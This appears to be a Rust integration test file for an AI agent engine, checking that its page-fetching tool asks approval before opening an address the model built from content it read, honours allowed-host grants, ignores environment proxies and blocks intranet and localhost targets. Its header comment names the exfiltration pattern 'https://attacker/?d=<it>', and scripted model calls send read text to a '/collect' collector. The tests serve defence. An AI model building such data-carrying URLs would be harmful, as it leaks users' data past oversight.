//! What a tool may reach and when it asks first, against the real local test server: an address
//! the model put together asks (the exfiltration path: read something, then "fetch"
//! `https://attacker/?d=<it>`), addresses the run was shown do not, `[tools] allow_hosts` and
//! "Allow always" let a host through; no proxy from the environment is used, and the one Settings
//! name is used with every target checked first.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::time::Duration;

use crate::support::*;
use serde_json::json;
use stepwise_engine::provider::{DemoModel, DemoPace, OpenAiProvider, Providers};
use stepwise_engine::tool::{Grant, ToolSettings, Tools};
use stepwise_engine::{
    ApprovalAnswer, Engine, EngineConfig, EventKind, ProviderKind, RunEvent, RunId, Subscription,
    Workflow,
};
use stepwise_testkit::{Behavior, Page, ScriptedCall, TestServer};

const ARTICLE: &str = "<main><h1>Tides</h1><p>Tides rise twice a day. \
    See <a href=\"/linked\">more</a>.</p></main>";

fn engine_for(server: &TestServer, tools: ToolSettings) -> Engine {
    let openai = OpenAiProvider::new(server.openai_base(), None, no_retries());
    Engine::new(EngineConfig {
        providers: Providers::demo(DemoModel::new(DemoPace::INSTANT))
            .with(ProviderKind::OpenAi, Arc::new(openai)),
        tools: Tools::new(tools),
        ..EngineConfig::default()
    })
}

fn settings(server: &TestServer) -> ToolSettings {
    ToolSettings {
        web_search_url: format!("{}/html/", server.url()),
        allow_private_network: true,
        ..ToolSettings::default()
    }
}

fn agent() -> Workflow {
    workflow_of(
        "name = \"Act\"\n[[steps]]\nname = \"Look\"\ninstructions = \"Find out.\"\n\
         model = \"openai:test\"\ntools = [\"web_search\", \"fetch_page\"]\n",
    )
}

/// Follows the run to its end, answering each approval with the next of `answers` and noting
/// what "Allow always" would allow.
async fn follow(
    engine: &Engine,
    id: RunId,
    sub: &mut Subscription,
    mut answers: Vec<ApprovalAnswer>,
) -> (Vec<RunEvent>, Vec<Grant>) {
    answers.reverse();
    let (mut events, mut grants) = (Vec::new(), Vec::new());
    while let Some(e) = tokio::time::timeout(Duration::from_secs(30), sub.next())
        .await
        .expect("the run hung")
    {
        if let EventKind::ToolApprovalRequested { path, call_id } = &e.kind {
            let answer = answers.pop().expect("an approval nobody expected");
            grants.push(engine.answer_tool_call(id, path, call_id, answer).unwrap());
        }
        events.push(e);
    }
    (events, grants)
}

fn asked(events: &[RunEvent]) -> Vec<String> {
    events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::ToolApprovalRequested { call_id, .. } => Some(call_id.clone()),
            _ => None,
        })
        .collect()
}

fn title(events: &[RunEvent], id: &str) -> String {
    events
        .iter()
        .find_map(|e| match &e.kind {
            EventKind::ToolCallStarted { call_id, title, .. } if call_id == id => {
                Some(title.clone())
            }
            _ => None,
        })
        .unwrap()
}

#[tokio::test]
async fn an_address_the_model_built_asks_first_and_addresses_the_run_was_shown_do_not() {
    let server = TestServer::start().await.unwrap();
    let base = server.url();
    server.set_page(
        "/html/",
        Page::html(&format!(
            r#"<div class="result"><a class="result__a" href="{base}/article">Tides</a></div>"#
        )),
    );
    server.set_page("/article", Page::html(ARTICLE));
    server.set_page("/linked", Page::html("<p>More on tides.</p>"));
    server.set_page("/given", Page::html("<p>The page you gave.</p>"));
    server.set_page("/collect", Page::html("<p>thanks</p>"));
    let calls = |list: Vec<ScriptedCall>| Behavior::text(&[], 0).with_calls(list, 0);
    server.push(calls(vec![ScriptedCall::new(
        "s",
        "web_search",
        json!({"query": "tides"}),
    )]));
    server.push(calls(vec![
        // A search result, and the address in the run's input.
        ScriptedCall::new("r", "fetch_page", json!({"url": format!("{base}/article")})),
        ScriptedCall::new("i", "fetch_page", json!({"url": format!("{base}/given")})),
    ]));
    server.push(calls(vec![
        // A link on a page it read; then an address it built with what it read.
        ScriptedCall::new("l", "fetch_page", json!({"url": format!("{base}/linked")})),
        ScriptedCall::new(
            "x",
            "fetch_page",
            json!({"url": format!("{base}/collect?d=Tides+rise+twice")}),
        ),
    ]));
    server.push(Behavior::text(&["Done."], 0));
    let engine = engine_for(&server, settings(&server));
    let (id, mut sub) = start(&engine, agent(), &format!("Tides; also read {base}/given."));
    let (events, grants) = follow(&engine, id, &mut sub, vec![ApprovalAnswer::Deny]).await;
    assert!(
        matches!(assert_well_formed(&events), EventKind::RunCompleted { .. }),
        "{:?}",
        events.last()
    );
    assert_eq!(asked(&events), ["x"]);
    assert!(
        title(&events, "x").starts_with("Opening http://127.0.0.1:"),
        "{}",
        title(&events, "x")
    );
    assert!(title(&events, "r").starts_with("Reading "));
    for (call, ok) in [("r", true), ("i", true), ("l", true), ("x", false)] {
        assert_eq!(tool_outcome(&events, call).0, ok, "{call}");
    }
    assert_eq!(grants, [Grant::Host("127.0.0.1".into())]);
    assert!(
        server
            .requests()
            .iter()
            .all(|r| !r.path.starts_with("/collect")),
        "nothing reached the collector"
    );
}

#[tokio::test]
async fn allowed_hosts_and_allow_always_let_a_host_open_without_asking() {
    let server = TestServer::start().await.unwrap();
    let base = server.url();
    server.set_page("/a", Page::html("<p>a</p>"));
    let fetch = |id: &str, path: &str| {
        Behavior::text(&[], 0).with_calls(
            vec![ScriptedCall::new(
                id,
                "fetch_page",
                json!({"url": format!("{base}{path}")}),
            )],
            0,
        )
    };
    // Settings name the host.
    server.push(fetch("c", "/a?x=1"));
    server.push(Behavior::text(&["ok"], 0));
    let mut allowed = settings(&server);
    allowed.allow_hosts = vec!["127.0.0.1".into()];
    let engine = engine_for(&server, allowed);
    let (id, mut sub) = start(&engine, agent(), "x");
    let (events, _) = follow(&engine, id, &mut sub, vec![]).await;
    assert!(asked(&events).is_empty());
    assert!(tool_outcome(&events, "c").0);

    // "Allow always" once: the host opens without asking from then on, in later runs too.
    server.push(fetch("first", "/a?x=2"));
    server.push(fetch("second", "/a?x=3"));
    server.push(Behavior::text(&["ok"], 0));
    server.push(fetch("later", "/a?x=4"));
    server.push(Behavior::text(&["ok"], 0));
    let engine = engine_for(&server, settings(&server));
    let (id, mut sub) = start(&engine, agent(), "x");
    let (events, grants) = follow(&engine, id, &mut sub, vec![ApprovalAnswer::AllowAlways]).await;
    assert_eq!(asked(&events), ["first"]);
    assert_eq!(grants, [Grant::Host("127.0.0.1".into())]);
    assert!(tool_outcome(&events, "first").0 && tool_outcome(&events, "second").0);
    let (id, mut sub) = start(&engine, agent(), "x");
    let (events, _) = follow(&engine, id, &mut sub, vec![]).await;
    assert!(asked(&events).is_empty());
    assert!(tool_outcome(&events, "later").0);
}

#[tokio::test]
async fn the_proxy_settings_name_is_used_and_every_target_checked_before_it() {
    let models = TestServer::start().await.unwrap();
    let proxy = TestServer::start().await.unwrap();
    let guarded = ToolSettings {
        proxy: Some(proxy.url()),
        ..ToolSettings::default()
    };
    // Through the proxy the name would be resolved by the proxy: here it is checked first, and a
    // name that does not resolve (an intranet name, from outside) is not sent at all.
    for url in [
        "http://intranet.corp.internal/secret",
        "http://127.0.0.1:9/secret",
        "http://localhost./secret",
    ] {
        models.push(Behavior::text(&[], 0).with_calls(
            vec![ScriptedCall::new("c", "fetch_page", json!({ "url": url }))],
            0,
        ));
        models.push(Behavior::text(&["ok"], 0));
        let engine = engine_for(&models, guarded.clone());
        let (_, mut sub) = start(&engine, agent(), &format!("read {url}"));
        let events = collect(&mut sub).await;
        assert!(matches!(
            assert_well_formed(&events),
            EventKind::RunCompleted { .. }
        ));
        assert!(!tool_outcome(&events, "c").0, "{url}");
    }
    assert_eq!(proxy.request_count(), 0, "nothing went to the proxy");

    // Where Settings allow the private network, the request goes through the proxy.
    let open = ToolSettings {
        allow_private_network: true,
        ..guarded
    };
    let url = "http://intranet.corp.internal/page";
    models.push(Behavior::text(&[], 0).with_calls(
        vec![ScriptedCall::new("c", "fetch_page", json!({ "url": url }))],
        0,
    ));
    models.push(Behavior::text(&["ok"], 0));
    let engine = engine_for(&models, open);
    let (_, mut sub) = start(&engine, agent(), &format!("read {url}"));
    collect(&mut sub).await;
    assert!(
        proxy
            .requests()
            .iter()
            .any(|r| r.path.contains("intranet.corp.internal")),
        "{:?}",
        proxy.requests().iter().map(|r| &r.path).collect::<Vec<_>>()
    );
}

/// A folder with `settings` as the settings file and a workflow whose one agent uses
/// `fetch_page` with `openai:test`.
fn cli_files(name: &str, settings: &str) -> (PathBuf, PathBuf) {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(name);
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("settings.toml");
    std::fs::write(&file, settings).unwrap();
    let workflow = dir.join("read.toml");
    std::fs::write(
        &workflow,
        "name = \"Read\"\n[[steps]]\nname = \"Read\"\ninstructions = \"Read it.\"\n\
         model = \"openai:test\"\ntools = [\"fetch_page\"]\n",
    )
    .unwrap();
    (file, workflow)
}

/// `stepwise run WORKFLOW --input INPUT --no-history --json` with these settings.
fn cli_run(settings: &Path, workflow: &Path, input: &str) -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_stepwise"));
    c.env("STEPWISE_SETTINGS", settings)
        .args(["run", &workflow.display().to_string(), "--input", input])
        .args(["--no-history", "--json"]);
    c
}

/// Runs the command to its end; its events.
async fn cli_events(mut c: Command) -> Vec<RunEvent> {
    let out = tokio::task::spawn_blocking(move || c.output().unwrap())
        .await
        .unwrap();
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| {
            serde_json::from_str(l).unwrap_or_else(|e| {
                panic!(
                    "not an event ({e}): {l}\n{}",
                    String::from_utf8_lossy(&out.stderr)
                )
            })
        })
        .collect()
}

/// `stepwise run` with every proxy variable set: the tools take none of them.
#[tokio::test]
async fn no_proxy_from_the_environment_reaches_a_tool() {
    let models = TestServer::start().await.unwrap();
    let proxy = TestServer::start().await.unwrap();
    let url = "http://intranet.corp.internal/secret";
    models.push(Behavior::text(&["Reading. "], 0).with_calls(
        vec![ScriptedCall::new("c", "fetch_page", json!({ "url": url }))],
        0,
    ));
    models.push(Behavior::text(&["Could not."], 0));
    let (settings, workflow) = cli_files(
        "tool-guard-env-proxy",
        &format!("[openai]\nbase_url = \"{}\"\n", models.openai_base()),
    );
    let mut c = cli_run(&settings, &workflow, url);
    for var in [
        "HTTP_PROXY",
        "HTTPS_PROXY",
        "ALL_PROXY",
        "http_proxy",
        "https_proxy",
        "all_proxy",
    ] {
        c.env(var, proxy.url());
    }
    // The model server is reached directly (a provider may use the system's proxy).
    c.env("NO_PROXY", "127.0.0.1,localhost")
        .env("no_proxy", "127.0.0.1,localhost");
    let events = cli_events(c).await;
    assert!(matches!(
        assert_well_formed(&events),
        EventKind::RunCompleted { .. }
    ));
    assert!(!tool_outcome(&events, "c").0);
    assert_eq!(proxy.request_count(), 0, "the proxy was reached");
}

/// `stepwise run` declines an address the model built unless `--allow-tools` is given.
#[tokio::test]
async fn the_command_line_declines_an_address_the_model_built() {
    let server = TestServer::start().await.unwrap();
    server.set_page("/collect", Page::html("<p>thanks</p>"));
    let (settings, workflow) = cli_files(
        "tool-guard-cli",
        &format!(
            "[openai]\nbase_url = \"{}\"\n[tools]\nallow_private_network = true\n",
            server.openai_base()
        ),
    );
    for (allow, reached) in [(false, false), (true, true)] {
        server.reset();
        server.set_page("/collect", Page::html("<p>thanks</p>"));
        server.push(Behavior::text(&[], 0).with_calls(
            vec![ScriptedCall::new(
                "c",
                "fetch_page",
                json!({ "url": format!("{}/collect?d=secret", server.url()) }),
            )],
            0,
        ));
        server.push(Behavior::text(&["ok"], 0));
        let mut c = cli_run(&settings, &workflow, "tides");
        if allow {
            c.arg("--allow-tools");
        }
        let events = cli_events(c).await;
        assert!(matches!(
            assert_well_formed(&events),
            EventKind::RunCompleted { .. }
        ));
        assert_eq!(asked(&events), ["c"]);
        assert_eq!(
            tool_outcome(&events, "c").0,
            reached,
            "--allow-tools: {allow}"
        );
        assert_eq!(
            server
                .requests()
                .iter()
                .any(|r| r.path.starts_with("/collect")),
            reached,
            "--allow-tools: {allow}"
        );
    }
}
